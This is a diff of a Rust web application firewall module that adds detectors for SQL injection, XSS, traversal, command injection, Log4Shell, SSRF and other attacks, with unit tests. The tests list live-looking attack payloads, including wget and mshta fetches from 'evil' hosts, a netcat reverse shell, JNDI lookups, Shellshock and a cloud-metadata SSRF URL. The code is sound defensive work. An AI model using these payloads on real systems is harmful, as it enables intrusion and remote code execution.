@@ -1,27 +1,47 @@
 //! WAF payload detectors for edge rules.
 //!
+//! Each value is scanned as sent, URL-decoded (twice, for double encoding), with HTML character
+//! references and JavaScript escapes decoded, and with code comments removed where a detector
+//! reads code. The first detector that fires names the attack.
+//!
 //! - **SQL injection and XSS**: `libinjectionrs`, a Rust port of libinjection — a real tokeniser
 //!   that classifies the token sequence of a value ("fingerprint") rather than matching substrings.
-//!   Chosen because it is pure Rust (the C bindings download their sources at build time).
-//! - **Path traversal / LFI**: `..` segments after decoding (URL, double URL, `%u`, backslashes),
-//!   and the OS files attackers probe for (OWASP CRS `lfi-os-files`, one Aho-Corasick pass).
-//! - **Remote file inclusion**: a URL value whose host is an IP literal, or that ends in `?`
-//!   (the classic trick to cut off the including script's suffix).
-//! - **Command injection**: a shell separator (`;`, `|`, `&`, `` ` ``, `$(`, newline) followed by a
-//!   command word from CRS's `unix-shell` list, the separator being what turns data into a
-//!   command line.
-//! - **PHP injection**: `<?php`, `php://` wrappers, superglobals (CRS `php-variables`) and
-//!   high-risk function names followed by `(` (CRS 933150 list).
-//! - **Java injection**: JNDI lookups (`${jndi:`), OGNL/EL markers and the Java classes used by
-//!   deserialisation and Struts RCEs (CRS `java-classes`).
+//!   Chosen because it is pure Rust (the C bindings download their sources at build time). Backed
+//!   by [`sql`] (function calls, stacked statements, JSON operators, NoSQL operators) and
+//!   [`markup`] (event handlers, obfuscated tags, DOM access, string evaluation).
+//! - **Path traversal / LFI**: `..` segments after decoding (URL, double URL, `%u`, backslashes,
+//!   Tomcat's `..;`), the OS files attackers probe for (OWASP CRS `lfi-os-files`, one
+//!   Aho-Corasick pass), and in the path: hidden files and directories (`/.git/`, `/.env`,
+//!   `/.claude/…`) and CRS `restricted-files` (backups, configs, logs).
+//! - **Remote file inclusion**: a URL value whose host is an IP literal, that ends in `?` (the
+//!   classic trick to cut off the including script's suffix), or that is given to a parameter
+//!   named like an include path (`_CONF[path]=`, `mosConfig_absolute_path=`).
+//! - **Command injection** ([`shell`]): a command line where data was expected.
+//! - **PHP injection** ([`php`]): tags, wrappers, superglobals, risky and variable function calls,
+//!   serialized objects, `php.ini` directives.
+//! - **Java injection**: JNDI lookups (`${jndi:` also nested or escaped), OGNL/EL markers, the
+//!   Java classes used by deserialisation and Struts RCEs (CRS `java-classes`), `Runtime` or
+//!   `ProcessBuilder` next to deserialisation gadgets.
+//! - **Protocol** ([`proto`]): CR/LF injection, request lines inside values, `unix:` proxy
+//!   targets; **LDAP** filter injection; **SSRF** to metadata services and internal addresses;
+//!   **Node.js** injection; **session fixation** (a session id given as a parameter).
 //!
-//! Values are scanned as sent and after URL decoding (twice, for double encoding). The vocabulary
-//! files come from the OWASP Core Rule Set (Apache License 2.0, see `data/CRS-LICENSE.txt`).
+//! The vocabulary files come from the OWASP Core Rule Set (Apache License 2.0, see
+//! `data/CRS-LICENSE.txt`); the detectors themselves are written here.
+
+mod markup;
+mod norm;
+mod php;
+mod proto;
+mod shell;
+mod sql;
 
 use std::collections::HashSet;
 use std::sync::OnceLock;
 
 use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
+
+pub use norm::{decode_escapes, strip_comments, url_decode};
 
 /// What a detector found.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
@@ -35,9 +55,28 @@ pub enum Attack {
     Java,
     /// CR/LF injection, request smuggling and response splitting.
     Protocol,
+    Ldap,
+    Ssrf,
+    Nodejs,
+    SessionFixation,
 }
 
 impl Attack {
+    pub const ALL: [Attack; 12] = [
+        Attack::Sqli,
+        Attack::Xss,
+        Attack::Traversal,
+        Attack::Rfi,
+        Attack::Cmdi,
+        Attack::Php,
+        Attack::Java,
+        Attack::Protocol,
+        Attack::Ldap,
+        Attack::Ssrf,
+        Attack::Nodejs,
+        Attack::SessionFixation,
+    ];
+
     pub fn as_str(self) -> &'static str {
         match self {
             Attack::Sqli => "sqli",
@@ -48,6 +87,10 @@ impl Attack {
             Attack::Php => "php",
             Attack::Java => "java",
             Attack::Protocol => "protocol",
+            Attack::Ldap => "ldap",
+            Attack::Ssrf => "ssrf",
+            Attack::Nodejs => "nodejs",
+            Attack::SessionFixation => "session_fixation",
         }
     }
 }
@@ -60,88 +103,11 @@ struct Vocabulary {
     java: AhoCorasick,
     /// Shell variables (`$IFS`, `${SHELL}`) and PowerShell cmdlets: command injection by name.
     shell_tokens: AhoCorasick,
+    /// Files a web server must never serve (matched in the path only).
+    restricted_files: AhoCorasick,
+    /// Cloud metadata endpoints and loopback spellings.
+    ssrf: AhoCorasick,
 }
-
-/// Commands that are evidence on their own after a shell separator.
-const STRONG_COMMANDS: &[&str] = &[
-    "id", "whoami", "uname", "ifconfig", "ipconfig", "netstat", "passwd", "sh", "bash", "zsh",
-    "ksh", "csh", "dash", "busybox", "nc", "ncat", "netcat", "wget", "curl", "telnet", "reboot",
-    "shutdown", "halt", "ps", "ls", "pwd", "env", "printenv", "sleep", "python", "python3", "perl",
-    "ruby", "php", "lua", "nslookup", "dig", "ping", "hostname", "crontab", "sudo", "su", "chmod",
-    "chown", "rm", "mkfifo", "xterm",
-];
-
-/// SQL functions that show up in injection payloads but rarely in form text as `name(`.
-const SQL_FUNCTIONS: &[&str] = &[
-    "benchmark",
-    "sleep",
-    "pg_sleep",
-    "waitfor",
-    "concat",
-    "concat_ws",
-    "group_concat",
-    "coalesce",
-    "compress",
-    "uncompress",
-    "extractvalue",
-    "updatexml",
-    "load_file",
-    "find_in_set",
-    "xmltype",
-    "utl_inaddr",
-    "utl_http",
-    "dbms_pipe",
-    "dbms_xmlgen",
-    "sqlite_version",
-    "sqlite_compileoption_used",
-    "sqlite_compileoption_get",
-    "json_build_object",
-    "jsonb_pretty",
-    "unistr",
-    "starts_with",
-    "char_length",
-    "ascii",
-    "substring",
-    "substr",
-    "mid",
-    "ord",
-    "hex",
-    "unhex",
-    "md5",
-    "sha1",
-    "current_user",
-    "session_user",
-    "system_user",
-    "database",
-    "schema",
-    "version",
-    "row_count",
-    "information_schema",
-    "pg_read_file",
-    "lo_import",
-    "xp_cmdshell",
-    "openrowset",
-    "ctxsys",
-    "name_const",
-    "make_set",
-    "elt",
-    "export_set",
-    "geometrycollection",
-    "multipoint",
-    "polygon",
-    "linestring",
-    "exp",
-    "floor",
-    "rand",
-    "if",
-    "ifnull",
-    "nullif",
-    "isnull",
-    "char",
-    "chr",
-    "cast",
-    "convert",
-];
 
 fn entries(text: &str) -> impl Iterator<Item = &str> {
     text.lines()
@@ -162,8 +128,22 @@ fn vocabulary() -> &'static Vocabulary {
     V.get_or_init(|| {
         let os_files: Vec<String> = entries(include_str!("data/crs-lfi-os-files.txt"))
             .map(|e| e.trim_start_matches('/').to_string())
-            // Very short entries (".env") are too common in benign text to be evidence alone.
-            .filter(|e| e.len() >= 6)
+            // Very short entries (".env", ".ssh") are too common in text to be evidence alone;
+            // they count as a directory (`.ssh/`).
+            .map(|e| {
+                if e.len() < 6 && !e.ends_with('/') {
+                    format!("{e}/")
+                } else {
+                    e
+                }
+            })
+            .collect();
+        let restricted_files: Vec<String> = entries(include_str!("data/crs-restricted-files.txt"))
+            .map(|e| e.trim_start_matches('/').to_ascii_lowercase())
+            .filter(|e| e.len() >= 4)
+            .collect();
+        let ssrf: Vec<String> = entries(include_str!("data/crs-ssrf.txt"))
+            .map(|e| e.to_ascii_lowercase())
             .collect();
         let shell_commands = entries(include_str!("data/crs-unix-shell.txt"))
             .filter(|e| !e.starts_with('$'))
@@ -211,57 +191,19 @@ fn vocabulary() -> &'static Vocabulary {
             php_functions,
             php_variables: ac(php_variables),
             java: ac(java),
+            restricted_files: ac(restricted_files),
+            ssrf: ac(ssrf),
         }
     })
 }
 
-/// Percent-decoding (`+` as space, `%uXXXX` too); invalid escapes are kept as they are.
-pub fn url_decode(s: &str) -> String {
-    let b = s.as_bytes();
-    let mut out = Vec::with_capacity(b.len());
-    let hex = |c: u8| (c as char).to_digit(16).map(|d| d as u8);
-    let mut i = 0;
-    while i < b.len() {
-        match b[i] {
-            b'+' => {
-                out.push(b' ');
-                i += 1;
-            }
-            b'%' => {
-                if i + 6 <= b.len() && (b[i + 1] == b'u' || b[i + 1] == b'U') {
-                    let c = std::str::from_utf8(&b[i + 2..i + 6])
-                        .ok()
-                        .and_then(|h| u32::from_str_radix(h, 16).ok())
-                        .and_then(char::from_u32);
-                    if let Some(c) = c {
-                        let mut buf = [0u8; 4];
-                        out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
-                        i += 6;
-                        continue;
-                    }
-                }
-                if i + 2 < b.len() {
-                    if let (Some(h), Some(l)) = (hex(b[i + 1]), hex(b[i + 2])) {
-                        out.push(h * 16 + l);
-                        i += 3;
-                        continue;
-                    }
-                }
-                out.push(b'%');
-                i += 1;
-            }
-            c => {
-                out.push(c);
-                i += 1;
-            }
-        }
-    }
-    String::from_utf8_lossy(&out).into_owned()
-}
-
 fn traversal(v: &str) -> bool {
     let norm = v.replace('\\', "/");
-    let dotdot = norm.contains("../") || norm.ends_with("/..") || norm == "..";
+    let dotdot = norm.contains("../")
+        || norm.contains("..;")
+        || norm.ends_with("/..")
+        || norm == ".."
+        || norm.contains("/./.");
     if dotdot {
         return true;
     }
@@ -272,8 +214,39 @@ fn traversal(v: &str) -> bool {
     })
 }
 
+/// Checks of the request path only: hidden files and directories, restricted files, line breaks.
+fn path_attack(path: &str) -> Option<Attack> {
+    let decoded = url_decode(path);
+    if decoded.contains(['\r', '\n']) {
+        return Some(Attack::Protocol);
+    }
+    let lower = decoded.to_ascii_lowercase().replace('\\', "/");
+    let hidden = lower.split('/').any(|seg| {
+        seg.len() > 1
+            && seg.starts_with('.')
+            && seg != ".well-known"
+            && seg[1..].starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
+    });
+    let restricted = vocabulary().restricted_files.find_iter(&lower).any(|m| {
+        let before = lower[..m.start()].chars().last();
+        let after = lower[m.end()..].chars().next();
+        matches!(before, None | Some('/'))
+            && (lower[m.start()..m.end()].ends_with('/')
+                || matches!(after, None | Some('/') | Some('?') | Some(';')))
+    });
+    (hidden || restricted).then_some(Attack::Traversal)
+}
+
 fn rfi(v: &str) -> bool {
     let lower = v.trim().to_ascii_lowercase();
+    // `file?`, `http?`: a scheme word and a trailing `?` to cut off the including script's suffix.
+    if ["file", "ftp", "ftps", "http", "https"]
+        .iter()
+        .any(|s| lower.starts_with(s))
+        && lower.ends_with('?')
+    {
+        return true;
+    }
     let Some(rest) = ["http://", "https://", "ftp://", "ftps://", "file://"]
         .iter()
         .find_map(|p| lower.strip_prefix(p))
@@ -288,160 +261,85 @@ fn rfi(v: &str) -> bool {
         .next()
         .unwrap_or("");
     let host = host.split(':').next().unwrap_or("");
-    host.parse::<std::net::Ipv4Addr>().is_ok()
-        || lower.ends_with('?')
-        || lower.starts_with("file://")
+    host.parse::<std::net::Ipv4Addr>().is_ok() || lower.starts_with("file://")
 }
 
-fn cmdi(v: &str) -> bool {
-    let vocab = vocabulary();
-    if vocab.shell_tokens.is_match(v) {
-        return true;
-    }
-    // A command named by its path: `/bin/sh`, `bin/ansible`, `/usr/bin/perl`.
-    for (i, _) in v.match_indices("bin/") {
-        let before = v[..i].chars().last();
-        if matches!(before, None | Some('/')) || v[..i].ends_with("s") && v[..i].ends_with("/s") {
-            let word: String = v[i + 4..]
-                .chars()
-                .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.'))
-                .collect();
-            if vocab.shell_commands.contains(&word.to_ascii_lowercase()) {
-                return true;
-            }
-        }
-    }
-    let bytes = v.as_bytes();
-    let mut i = 0;
-    while i < bytes.len() {
-        let sep_len = match bytes[i] {
-            b';' | b'|' | b'&' | b'`' | b'\n' => 1,
-            b'$' if bytes.get(i + 1) == Some(&b'(') => 2,
-            _ => 0,
-        };
-        if sep_len == 0 {
-            i += 1;
-            continue;
-        }
-        i += sep_len;
-        // The next word, unquoted, without a leading path.
-        let rest = &v[i..];
-        let word: String = rest
-            .trim_start_matches([' ', '\t', '|', '&', '(', '{', '\'', '"'])
-            .chars()
-            .take_while(|c| {
-                !c.is_whitespace()
-                    && !matches!(c, ';' | '|' | '&' | '`' | ')' | '<' | '>' | '\'' | '"')
-            })
-            .collect::<String>()
-            .replace(['\'', '"', '\\'], "");
-        let cmd = word
-            .rsplit('/')
-            .next()
-            .unwrap_or(&word)
-            .to_ascii_lowercase();
-        if cmd.len() >= 2 && vocab.shell_commands.contains(&cmd) {
-            // Many command names are also words ("touch", "nl", "arch"): demand a command line —
-            // an argument after the word — unless the command is unmistakable on its own.
-            let after = rest
-                .trim_start_matches([' ', '\t', '|', '&', '(', '{', '\'', '"'])
-                .get(word.len()..)
-                .unwrap_or("");
-            let has_arg = after.starts_with([' ', '\t'])
-                && after.trim_start().starts_with(|c: char| {
-                    c.is_ascii_alphanumeric()
-                        || matches!(c, '/' | '-' | '$' | '.' | '~' | '*' | '\'' | '"')
-                });
-            if has_arg || STRONG_COMMANDS.contains(&cmd.as_str()) {
-                return true;
-            }
-        }
-    }
-    false
+/// Parameter names that PHP applications pass to `include`: a remote URL there is RFI.
+fn include_parameter(name: &str) -> bool {
+    let n = url_decode(name).to_ascii_lowercase();
+    [
+        "absolute_path",
+        "[path]",
+        "basedir",
+        "root_dir",
+        "[docroot]",
+        "document_root",
+        "appserv_root",
+        "include_path",
+        "[root]",
+    ]
+    .iter()
+    .any(|p| n.contains(p))
 }
 
-fn php(v: &str) -> bool {
-    let lower = v.to_ascii_lowercase();
-    if lower.contains("<?php") || lower.contains("<?=") || lower.contains("php://") {
-        return true;
-    }
-    let vocab = vocabulary();
-    if vocab.php_variables.is_match(v) {
-        return true;
-    }
-    // A high-risk function name followed by `(`.
-    let found = called_names(&lower).any(|name| vocab.php_functions.contains(name));
-    found
+/// Session cookie names: sent as a parameter, they fix the victim's session.
+fn session_parameter(name: &str) -> bool {
+    let n = url_decode(name).trim().to_ascii_lowercase();
+    matches!(
+        n.as_str(),
+        "jsessionid"
+            | "phpsessid"
+            | "aspsessionid"
+            | "asp.net_sessionid"
+            | "cfid"
+            | "cftoken"
+            | "sessionid"
+            | "sid"
+            | "session_id"
+    ) || n.starts_with("aspsessionid")
 }
 
-/// Identifiers immediately followed (spaces and tabs allowed) by `(`.
-fn called_names(text: &str) -> impl Iterator<Item = &str> {
-    let b = text.as_bytes();
-    let mut i = 0;
-    std::iter::from_fn(move || {
-        while i < b.len() {
-            if b[i].is_ascii_alphabetic() || b[i] == b'_' {
-                let start = i;
-                while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_') {
-                    i += 1;
-                }
-                let mut j = i;
-                while j < b.len() && (b[j] == b' ' || b[j] == b'\t') {
-                    j += 1;
-                }
-                if b.get(j) == Some(&b'(') {
-                    return Some(&text[start..i]);
-                }
-            } else {
-                i += 1;
-            }
-        }
-        None
-    })
-}
-
-fn protocol(v: &str) -> bool {
-    // A line break followed by something an HTTP parser would read as a header or request line.
-    v.split(['\r', '\n']).skip(1).any(|line| {
-        let l = line.trim_start();
-        l.contains("HTTP/")
-            || l.split_once(':').is_some_and(|(name, _)| {
-                !name.is_empty()
-                    && name.len() < 40
-                    && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
-            })
-    })
-}
-
-fn sql_function_call(v: &str) -> bool {
-    let lower = v.to_ascii_lowercase();
-    let found = called_names(&lower).any(|word| {
-        if !SQL_FUNCTIONS.contains(&word) {
-            return false;
-        }
-        // "if (" and friends are ordinary words in prose; demand SQL-ish company for them.
-        let common = matches!(
-            word,
-            "if" | "char"
-                | "cast"
-                | "convert"
-                | "exp"
-                | "floor"
-                | "version"
-                | "database"
-                | "schema"
-                | "mid"
-                | "hex"
-                | "ord"
-                | "ascii"
-        );
-        !common || lower.contains("select") || lower.contains("--") || lower.contains('\'')
-    });
-    found
-}
+/// Deserialisation gadgets that make `Runtime`/`ProcessBuilder` run commands.
+const JAVA_GADGETS: &[&str] = &[
+    "clonetransformer",
+    "forclosure",
+    "instantiatefactory",
+    "instantiatetransformer",
+    "invokertransformer",
+    "prototypeclonefactory",
+    "prototypeserializationfactory",
+    "whileclosure",
+    "getproperty",
+    "filewriter",
+    "xmldecoder",
+    "unmarshaller",
+    "base64data",
+    "java.",
+];
 
 fn java(v: &str) -> bool {
-    vocabulary().java.is_match(v)
+    if vocabulary().java.is_match(v) {
+        return true;
+    }
+    let lower = v.to_ascii_lowercase();
+    if (lower.contains("runtime") || lower.contains("processbuilder"))
+        && JAVA_GADGETS.iter().any(|g| lower.contains(g))
+    {
+        return true;
+    }
+    // Log4Shell lookups, also nested to hide `jndi` (`${${::-j}ndi:…}`, `${lower:j}`).
+    lower.match_indices("${").any(|(i, _)| {
+        let rest = &lower[i + 2..];
+        let window = &rest[..rest.len().min(256)];
+        window.contains("jndi")
+            || window.contains("${")
+            || window.starts_with("::-")
+            || [
+                "lower:", "upper:", "env:", "sys:", "java:", "main:", "base64:", "date:", "ctx:",
+            ]
+            .iter()
+            .any(|l| window.starts_with(l))
+    })
 }
 
 /// Scans one value with every detector; the first that fires wins.
@@ -455,12 +353,20 @@ pub fn scan_value(v: &str) -> Option<Attack> {
     } else {
         once.clone()
     };
+    let escaped = decode_escapes(&twice);
+    let escaped = match decode_escapes(&escaped) {
+        std::borrow::Cow::Owned(o) => o,
+        std::borrow::Cow::Borrowed(_) => escaped.into_owned(),
+    };
     let mut candidates = vec![v];
     if once != v {
         candidates.push(&once);
     }
     if twice != once {
         candidates.push(&twice);
+    }
+    if escaped != twice {
+        candidates.push(&escaped);
     }
     for c in candidates {
         if let Some(a) = scan_decoded(c) {
@@ -471,29 +377,45 @@ pub fn scan_value(v: &str) -> Option<Attack> {
 }
 
 fn scan_decoded(v: &str) -> Option<Attack> {
+    let stripped = strip_comments(v);
     if java(v) {
         return Some(Attack::Java);
     }
-    if php(v) {
+    if markup::nodejs(v) {
+        return Some(Attack::Nodejs);
+    }
+    if php::php(v, &stripped) {
         return Some(Attack::Php);
     }
     if traversal(v) {
         return Some(Attack::Traversal);
     }
+    if proto::ssrf(v) {
+        return Some(Attack::Ssrf);
+    }
     if rfi(v) {
         return Some(Attack::Rfi);
     }
-    if libinjectionrs::detect_sqli(v.as_bytes()).is_injection() || sql_function_call(v) {
+    let lower = stripped.to_ascii_lowercase();
+    if libinjectionrs::detect_sqli(v.as_bytes()).is_injection()
+        || sql::sql_function_call(&lower)
+        || sql::sql_statements(&lower)
+        || sql::json_operand(v)
+        || sql::nosql_operator(v)
+    {
         return Some(Attack::Sqli);
     }
-    if libinjectionrs::detect_xss(v.as_bytes()).is_injection() {
+    if libinjectionrs::detect_xss(v.as_bytes()).is_injection() || markup::xss(&stripped) {
         return Some(Attack::Xss);
     }
-    if cmdi(v) {
+    if shell::cmdi(v) {
         return Some(Attack::Cmdi);
     }
-    if protocol(v) {
+    if proto::protocol(v) {
         return Some(Attack::Protocol);
+    }
+    if proto::ldap(v) {
+        return Some(Attack::Ldap);
     }
     None
 }
@@ -520,6 +442,31 @@ pub fn json_strings<'a>(v: &'a serde_json::Value, out: &mut Vec<&'a str>) {
     }
 }
 
+/// Checks that need a parameter's name and value together.
+fn scan_pair(name: &str, value: Option<&str>) -> Option<Attack> {
+    if session_parameter(name) {
+        return Some(Attack::SessionFixation);
+    }
+    let value = url_decode(value?).to_ascii_lowercase();
+    let remote = ["http://", "https://", "ftp://", "ftps://"]
+        .iter()
+        .any(|p| value.trim_start().starts_with(p));
+    (remote && include_parameter(name)).then_some(Attack::Rfi)
+}
+
+fn scan_form(s: &str) -> Option<Attack> {
+    for kv in s.split('&') {
+        let (name, value) = match kv.split_once('=') {
+            Some((n, v)) => (n, Some(v)),
+            None => (kv, None),
+        };
+        if let Some(a) = scan_pair(name, value) {
+            return Some(a);
+        }
+    }
+    form_parts(s).find_map(scan_value)
+}
+
 /// Headers whose values are not scanned: protocol plumbing and Rampart's own anti-replay headers.
 /// Every other header value is attacker-chosen text.
 pub const UNSCANNED_HEADERS: &[&str] = &[
@@ -541,7 +488,7 @@ pub const UNSCANNED_HEADERS: &[&str] = &[
 
 /// Scans every attacker-controlled part of a request: path, query names and values, body (form
 /// fields, JSON strings, or the raw text), the JSON params, and every header value except the
-/// plumbing listed in [`UNSCANNED_HEADERS`].
+/// plumbing listed in [`UNSCANNED_HEADERS`]. Returns the attack and where it was found.
 pub fn scan_request<'a>(
     path: &str,
     query: &str,
@@ -549,61 +496,67 @@ pub fn scan_request<'a>(
     params: Option<&serde_json::Value>,
     headers: impl Iterator<Item = (&'a str, &'a str)>,
 ) -> Option<(Attack, &'static str)> {
-    if let Some(a) = scan_value(path) {
+    if let Some(a) = path_attack(path).or_else(|| scan_value(path)) {
         return Some((a, "path"));
     }
-    for part in form_parts(query) {
-        if let Some(a) = scan_value(part) {
-            return Some((a, "query"));
-        }
+    if let Some(a) = scan_form(query) {
+        return Some((a, "query"));
     }
     if !body.is_empty() {
-        let mut strings = Vec::new();
         let json = serde_json::from_str::<serde_json::Value>(body).ok();
-        match &json {
-            Some(v) if v.is_object() || v.is_array() => json_strings(v, &mut strings),
-            _ if body.contains('=') && !body.contains(['<', '\n']) => {
-                strings.extend(form_parts(body))
+        let found = match &json {
+            Some(v) if v.is_object() || v.is_array() => scan_json(v),
+            _ if body.contains('=') && !body.trim_start().starts_with('<') => {
+                scan_form(body).or_else(|| scan_value(body))
             }
-            _ => strings.push(body),
-        }
-        for s in strings {
-            if let Some(a) = scan_value(s) {
-                return Some((a, "body"));
-            }
+            _ => scan_value(body),
+        };
+        if let Some(a) = found {
+            return Some((a, "body"));
         }
     }
-    if let Some(p) = params {
-        let mut strings = Vec::new();
-        json_strings(p, &mut strings);
-        for s in strings {
-            if let Some(a) = scan_value(s) {
-                return Some((a, "params"));
-            }
-        }
+    if let Some(a) = params.and_then(scan_json) {
+        return Some((a, "params"));
     }
     for (name, value) in headers {
-        if !UNSCANNED_HEADERS
+        if UNSCANNED_HEADERS
             .iter()
             .any(|h| h.eq_ignore_ascii_case(name))
         {
-            let parts: Vec<&str> = if name.eq_ignore_ascii_case("cookie") {
+            continue;
+        }
+        let found = if name.eq_ignore_ascii_case("cookie") {
+            if value.trim_start().starts_with("$Version") {
+                Some(Attack::Protocol) // RFC 2109 cookies: parser confusion, long obsolete
+            } else {
                 value
                     .split(';')
                     .flat_map(|kv| kv.splitn(2, '='))
                     .map(str::trim)
-                    .collect()
-            } else {
-                vec![value]
-            };
-            for v in parts {
-                if let Some(a) = scan_value(v) {
-                    return Some((a, "header"));
-                }
+                    .find_map(scan_value)
             }
+        } else {
+            scan_value(value)
+        };
+        if let Some(a) = found {
+            return Some((a, "header"));
         }
     }
     None
+}
+
+/// Every key and string of a JSON document; keys also as parameter names.
+fn scan_json(v: &serde_json::Value) -> Option<Attack> {
+    match v {
+        serde_json::Value::String(s) => scan_value(s),
+        serde_json::Value::Array(a) => a.iter().find_map(scan_json),
+        serde_json::Value::Object(m) => m.iter().find_map(|(k, x)| {
+            scan_pair(k, x.as_str())
+                .or_else(|| scan_value(k))
+                .or_else(|| scan_json(x))
+        }),
+        _ => None,
+    }
 }
 
 #[cfg(test)]
@@ -619,12 +572,40 @@ mod tests {
             ("<img src=x onerror=alert(1)>", Attack::Xss),
             ("../../../../etc/passwd", Attack::Traversal),
             ("..%2f..%2f..%2fetc%2fpasswd", Attack::Traversal),
-            ("http://192.168.0.1/shell.txt?", Attack::Rfi),
+            ("http://198.51.100.7/shell.txt?", Attack::Rfi),
             ("x; cat /etc/hosts", Attack::Traversal),
             ("127.0.0.1; wget http://evil/x", Attack::Cmdi),
             ("a | nc -e sh evil 4444", Attack::Cmdi),
             ("<?php system('id'); ?>", Attack::Php),
             ("${jndi:ldap://evil/a}", Attack::Java),
+            ("${${::-j}${::-n}di:ldap://evil/a}", Attack::Java),
+            ("$&lbrace;jndi:ldap://evil/a}", Attack::Java),
+            ("java.ProcessBuilder", Attack::Java),
+            ("eval($_GET['x'])", Attack::Php),
+            ("exec /*x*/ ('id')", Attack::Php),
+            ("$f(101)", Attack::Php),
+            ("${'a'}(1)", Attack::Php),
+            ("O:8:\"stdClass\":0:{}", Attack::Php),
+            ("allow_url_include=On", Attack::Php),
+            ("' OR '{\"a\":1}'::jsonb @> '{\"a\":1}'", Attack::Sqli),
+            ("; DROP TABLE users", Attack::Sqli),
+            ("Xunionselectfrom", Attack::Sqli),
+            ("{\"$where\": \"1\"}", Attack::Sqli),
+            ("u[$ne]", Attack::Sqli),
+            ("pg_sleep", Attack::Sqli),
+            ("\" onmouseover=alert(1) x=\"", Attack::Xss),
+            ("<f o r m action=x>", Attack::Xss),
+            ("self[\"alert\"](1)", Attack::Xss),
+            ("[].sort.call`1`", Attack::Xss),
+            ("javascript:alert(1)", Attack::Xss),
+            ("time sh -c whoami", Attack::Cmdi),
+            ("; mshta http://evil/x.hta", Attack::Cmdi),
+            ("() { :; }; /bin/bash -c id", Attack::Cmdi),
+            ("*)(uid=*))(|(uid=*", Attack::Ldap),
+            ("http://169.254.169.254/latest/meta-data/", Attack::Ssrf),
+            ("http://0x7f000001/admin", Attack::Ssrf),
+            ("require('child_process').exec('id')", Attack::Nodejs),
+            ("GET http://evil/ HTTP/1.1", Attack::Protocol),
         ];
         for (payload, expected) in cases {
             assert_eq!(scan_value(payload), Some(expected), "{payload}");
@@ -646,17 +627,32 @@ mod tests {
             "SPRING-2026",
             "user@example.com",
             "A & B | C",
+            "select your size",
+            "drop-off point; union jack tote",
+            "script font mug",
+            "alert me when back in stock",
+            "update my address; delete my old card",
+            "system of a down t-shirt",
+            "ruby red earrings",
+            "python snakeskin boots",
+            "sleep mask",
+            "ping pong table",
+            "time to order",
+            "FREE-SHIP",
+            "AT&T; C++ Primer (2nd ed.)",
+            "5' x 8' rug",
+            "Levi's 501® (32/34)",
+            "Call me at +1 (555) 010-2030; thanks!",
+            "I don't like it; it's too small (size M) & the color's off.",
+            "Łódź, ul. Piotrkowska 12/3",
+            "Zürich; São Paulo; 東京都渋谷区 1-2-3",
+            "https://shop.example.com/search?q=red+shoes&page=2",
+            "Great product!!! 5/5 would buy again :) #happy",
+            "Order #12345 (gift) — please wrap it",
+            "100% cotton, 50% off today only",
+            "The system (beta) works; the file (PDF) too",
         ] {
             assert_eq!(scan_value(v), None, "{v}");
         }
-    }
-
-    #[test]
-    fn url_decoding() {
-        assert_eq!(url_decode("a%20b+c"), "a b c");
-        assert_eq!(url_decode("%u003cscript"), "<script");
-        assert_eq!(url_decode("100%"), "100%");
-        assert_eq!(url_decode("%zz"), "%zz");
-        assert_eq!(url_decode("%2"), "%2");
     }
 }
